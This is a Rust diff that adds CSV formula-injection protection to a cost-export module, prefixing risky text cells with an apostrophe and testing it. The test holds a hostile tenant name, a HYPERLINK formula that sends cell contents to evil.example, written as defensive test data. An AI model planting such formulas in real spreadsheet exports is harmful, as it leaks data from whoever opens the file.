@@ -165,6 +165,28 @@ pub fn row(r: &ExportRow, catalog: &Catalog, config: &MeteringConfig) -> Vec<Str
     ]
 }
 
+/// Columns that hold decimals (never rewritten by [`neutralized`]).
+const NUMERIC: &[&str] = &[
+    "BilledCost",
+    "EffectiveCost",
+    "ListCost",
+    "ListUnitPrice",
+    "ContractedCost",
+    "ContractedUnitPrice",
+    "ConsumedQuantity",
+    "PricingQuantity",
+];
+
+/// A text cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab, carriage
+/// return first: a tenant named `=HYPERLINK(…)`) gets a leading `'`, as OWASP advises for CSV.
+fn neutralized(cell: String) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell
+    }
+}
+
 /// CSV bytes of the header (when `header`) and rows.
 pub fn csv_chunk(
     rows: &[ExportRow],
@@ -179,7 +201,17 @@ pub fn csv_chunk(
         writer.write_record(COLUMNS)?;
     }
     for r in rows {
-        writer.write_record(row(r, catalog, config))?;
+        let cells = row(r, catalog, config)
+            .into_iter()
+            .zip(COLUMNS)
+            .map(|(cell, column)| {
+                if NUMERIC.contains(column) {
+                    cell
+                } else {
+                    neutralized(cell)
+                }
+            });
+        writer.write_record(cells)?;
     }
     writer
         .into_inner()
@@ -229,8 +261,18 @@ mod tests {
         assert_eq!(at("ChargePeriodEnd"), "2027-01-01T00:00:00Z");
         assert_eq!(at("x_AllocationMethod"), "storage_share");
         assert_eq!(at("Tags"), r#"{"cost_center":"cc-1"}"#);
-        let csv = String::from_utf8(csv_chunk(&[r], true, &catalog, &config).expect("csv"))
-            .expect("utf8");
+        let mut hostile = r.clone();
+        hostile.tenant_name = "=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")".into();
+        hostile.tenant_slug = "-x".into();
+        let csv =
+            String::from_utf8(csv_chunk(&[r, hostile], true, &catalog, &config).expect("csv"))
+                .expect("utf8");
+        assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
+        assert!(csv.contains(",'-x,"), "{csv}");
+        assert!(
+            !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"),
+            "{csv}"
+        );
         assert!(csv.starts_with("BilledCost,EffectiveCost"));
         assert!(csv.contains("\"Acme, Inc.\""), "{csv}");
     }
